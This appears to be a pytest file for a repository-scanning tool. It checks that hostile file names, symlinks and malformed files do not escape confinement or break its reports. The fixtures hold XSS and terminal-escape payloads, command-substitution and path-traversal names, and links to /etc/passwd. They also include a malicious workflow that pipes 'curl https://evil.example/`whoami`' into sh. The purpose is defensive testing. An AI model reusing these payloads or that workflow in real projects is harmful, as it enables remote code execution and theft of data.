"""Paths and names made to lead out of the repository, to fool a terminal, or to break a report."""

import re
from pathlib import Path

import pytest

from assay.testing.confinement import Confinement
from assay.testing.raw_objects import FILE, FOLDER, LINK, PROGRAM, RawRepository

ESCAPE = b"\x1b[31mred\x1b[0m\x07"
MARKUP = b"<script>alert(1)</script><img src=x onerror=alert(1)>"
WORKFLOW = (
    b'name: "\\e[2J\\u202E<script>alert(2)</script>"\non: pull_request_target\njobs:\n'
    b'  "\\e]0;owned\\a":\n    runs-on: self-hosted\n    steps:\n'
    b'      - name: "`x` [link](https://evil.example) @everyone | #1"\n        uses: "evil/action@main"\n'
    b"      - uses: actions/checkout@v4\n        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n"
    b"      - run: curl https://evil.example/`whoami` | sh\n"
)
NAMES = (
    b"new\nline.md", b"back\\slash.md", b"tab\there.md", b"carriage\rreturn.md", ESCAPE + b".md", b"\x1b]0;title\x07.md", b"\x9b31m.md",
    "\u202egnp.exe.md".encode(), "\u200bzero.md".encode(), "\ufeffmark.md".encode(), b"caf\xe9.md", b"\xff\xfe.md", b"\xed\xa0\x80.md",
    b"-rf.md", b"--output=owned.md", b" .md", b". ", b"...", b"CON.md", b"nul", b"a:b.md", b"x" * 255 + b".md", b"|.md", b"`id`.md", b"$(id).md",
    b"%s%n.md", b"{{ 7*7 }}.md", b"{% include 'x' %}.md", MARKUP.replace(b"/", b"") + b".md", b"[x](javascript:alert(1)).md", b"'\";--.md",
    b".git", b".GIT", b".git ", b"git~1", "\u200c.git".encode(), b".gitmodules", b"..", b".", b"/etc/passwd", b"a/b.md", b"../up.md", b"C:\\x.md",
    b"README.md", b"readme.md", b"ReadMe.MD", "ＲＥＡＤＭＥ.md".encode(), "Straße".encode(), b"STRASSE", "e\u0301.md".encode(), "\u00e9.md".encode(),
)  # fmt: skip
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")


@pytest.fixture
def odd(tmp_path: Path) -> RawRepository:
    """A repository of every odd name, with a pipeline, a container and a lock among them so that checks speak of them."""
    raw = RawRepository(tmp_path / "repository")
    blob, workflow = raw.blob(b"# Security\n\nReport to security@example.com.\n"), raw.blob(WORKFLOW)
    inner = raw.tree({b"passwd": (FILE, blob), b"config": (FILE, blob), b"HEAD": (FILE, blob)})
    workflows = raw.tree(
        {
            b"ci.yml": (FILE, workflow),
            ESCAPE + b".yml": (FILE, workflow),
            b"caf\xe9.yml": (FILE, workflow),
            b"a b`|<b>.yml": (FILE, workflow),
        }
    )
    odd_folder = raw.tree(
        {
            b"package.json": (FILE, raw.blob(b'{"name": "a", "private": true, "dependencies": {"left": "^1"}}')),
            b"Dockerfile": (FILE, raw.blob(b"FROM node:latest\nRUN npm install\nENV PASSWORD=hunter2hunter2\n")),
            b".env": (FILE, raw.blob(b"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzz\n")),
        }
    )
    entries = dict.fromkeys(NAMES, (FILE, blob))
    entries |= dict.fromkeys((b".git", b"..", b"folder\nline"), (FOLDER, inner))
    entries |= dict.fromkeys(
        (ESCAPE, MARKUP.replace(b"/", b""), "右から左へ右から左へ右から左へ右から左へ".encode(), b"caf\xe9"),
        (FOLDER, odd_folder),
    )
    entries[b".github"] = (FOLDER, raw.tree({b"workflows": (FOLDER, workflows)}))
    entries[b"run.sh"] = (PROGRAM, blob)
    raw.commit(raw.tree(entries))
    return raw


def test_odd_names_are_read_and_said(odd: RawRepository, confinement: Confinement) -> None:
    ended = confinement.assess(odd.folder)
    assert ended.code == 0, ended.errors
    assert ended.output.isascii()
    assert any("differ by case only" in reason for _, reason, _ in ended.unread)
    assert any("no UTF-8" in reason for _, reason, _ in ended.unread)
    assert not list(confinement.folder.glob("*owned*"))


@pytest.mark.parametrize("form", ["text", "markdown", "html"])
def test_odd_names_break_no_report(form: str, odd: RawRepository, confinement: Confinement) -> None:
    ended = confinement.run("assess", str(odd.folder), "--format", form)
    assert ended.code == 0, ended.errors
    assert not CONTROL.search(ended.output), CONTROL.search(ended.output)
    if form != "text":
        assert "<script" not in ended.output
        assert "<img" not in ended.output
    assert not confinement.sprung


def test_errors_carry_no_escapes(confinement: Confinement, odd: RawRepository) -> None:
    for words in (
        ("assess", "\x1b[31mred"),
        ("assess", str(odd.folder), "--ref", "\x1b[31mred"),
        ("assess", str(odd.folder), "--ref", "\udcff"),
        ("assess", str(odd.folder), "--profile", "\x1b[31mred"),
        ("explain", "\x1b[31mred"),
        ("diff", "\x1b[31mred", "\x9b"),
    ):
        ended = confinement.run(*words)
        assert ended.code in (2, 3), words
        assert "Traceback" not in ended.errors
        assert not CONTROL.search(ended.errors), ended.errors


def test_links_are_never_followed(confinement: Confinement, tmp_path: Path) -> None:
    raw = RawRepository(tmp_path / "repository")
    passwd, up, loop = raw.blob(b"/etc/passwd"), raw.blob(b"../" * 12 + b"etc/passwd"), raw.blob(b"loop")
    lists = {
        b"README.md": passwd, b"SECURITY.md": up, b"assay.toml": passwd, b"package.json": up, b"Dockerfile": passwd, b"loop": loop,
        b"one": raw.blob(b"two"), b"two": raw.blob(b"one"), b".gitignore": passwd, b".gitlab-ci.yml": up, b"dev": raw.blob(b"/dev/zero"),
        b"main.py": passwd, b"poetry.lock": up, b"empty": raw.blob(b""), b"long": raw.blob(b"x" * 1_000_000), b"here": raw.blob(b"."),
    }  # fmt: skip
    entries = {name: (LINK, oid) for name, oid in lists.items()}
    entries[b".github"] = (FOLDER, raw.tree({b"workflows": (LINK, up)}))
    raw.commit(raw.tree(entries))
    ended = confinement.assess(raw.folder)
    assert ended.code == 0, ended.errors
    assert "root:" not in ended.output
    assert ended.document["counts"]["met"] == 0
    assert any(fact == "assay.toml" and "link" in reason for fact, reason, _ in ended.unread)


def test_files_of_nothing_but_odd_bytes(confinement: Confinement, tmp_path: Path) -> None:
    raw = RawRepository(tmp_path / "repository")
    names = (
        b"README.md", b"SECURITY.md", b"security.html", b"security.rst", b"security.adoc", b"security.txt", b"security.docx", b"security.pdf", b"package.json",
        b"package-lock.json", b"yarn.lock", b"poetry.lock", b"pyproject.toml", b"requirements.txt", b"go.mod", b"go.sum", b"Cargo.toml", b"Cargo.lock", b"pom.xml",
        b"Gemfile", b"Gemfile.lock", b"composer.json", b"app.csproj", b"Dockerfile", b"compose.yaml", b"Jenkinsfile", b".gitlab-ci.yml", b"azure-pipelines.yml",
        b"Makefile", b"tox.ini", b".gitignore", b".gitmodules", b".env", b"main.py", b"main.js", b"main.go", b"renovate.json", b"assay.toml", b"CODEOWNERS",
        b".pre-commit-config.yaml", b"build.gradle", b"mix.exs", b"pubspec.yaml", b"Chart.yaml", b"setup.cfg", b"setup.py", b"Pipfile", b"uv.lock", b"pnpm-lock.yaml",
    )  # fmt: skip
    contents = {
        b"zeros": b"\0" * 5000,
        b"all": bytes(range(256)) * 20,
        b"utf16": "﻿on: push\nname: x\n{}".encode("utf-16"),
        b"utf16be": b"\xfe\xff" + "# Title\n\nsecret = 'x'".encode("utf-16-be"),
        b"half": b"\xff\xfe\x00",
        b"utf32": "# x".encode("utf-32"),
        b"nul": b"# Title\n\0\n[x]\n",
        b"bare": b"\r\r\r\n\x0b\x0c\x1c\x85\xe2\x80\xa8",
        b"empty": b"",
        b"space": b" \n\t\n",
        b"surrogate": b"name: \xed\xa0\x80\n",
        b"brackets": b"{[(<\"'`",
        b"null": b"null",
        b"number": b"1",
        b"list": b"[1, {}, [], null, \"x\"]",
        b"map": b'{"name": [], "version": {}, "dependencies": [1], "devDependencies": "x", "packages": 7, "scripts": [[]], "engines": [], "on": [1]}',
        b"yaml": b"on: {push: [1, {}]}\njobs: [a, 1, {steps: 7}]\nstages: 3\ninclude: {a: 1}\nsteps: {}\nservices: [x]\nupdates: {}\nrepos: 5\n",
        b"jobs": b"on: []\njobs: {a: null, b: [], c: 1, d: {steps: [null, 1, [], {run: []}, {uses: {}}], needs: {a: 1}, if: [], strategy: x}}\n",
        b"toml": b'project = 1\ntool = "x"\npackage = 3\ndependencies = [1]\n[[metadata]]\nfiles = 7\n',
        b"xml": b"<project><dependencies>x<dependency/><dependency><version>${a}</version></dependency></dependencies></project>",
    }  # fmt: skip
    folders = {
        folder: (FOLDER, raw.tree({name: (FILE, raw.blob(data)) for name in names}))
        for folder, data in contents.items()
    }
    workflows = {folder + b".yml": (FILE, raw.blob(data)) for folder, data in contents.items()}
    github = raw.tree(
        {b"workflows": (FOLDER, raw.tree(workflows)), b"dependabot.yml": (FILE, raw.blob(contents[b"yaml"]))}
    )
    for number, data in enumerate(contents.values()):
        entries = {name: (FILE, raw.blob(data)) for name in names} | {b".github": (FOLDER, github)}
        raw.commit(raw.tree(entries | (folders if number == 0 else {})), branch=f"b{number}")
        ended = confinement.assess(raw.folder, "--ref", f"b{number}", "--no-tools")
        assert ended.code == 0, (list(contents)[number], ended.errors)
        assert ended.document["counts"]["met"] == 0
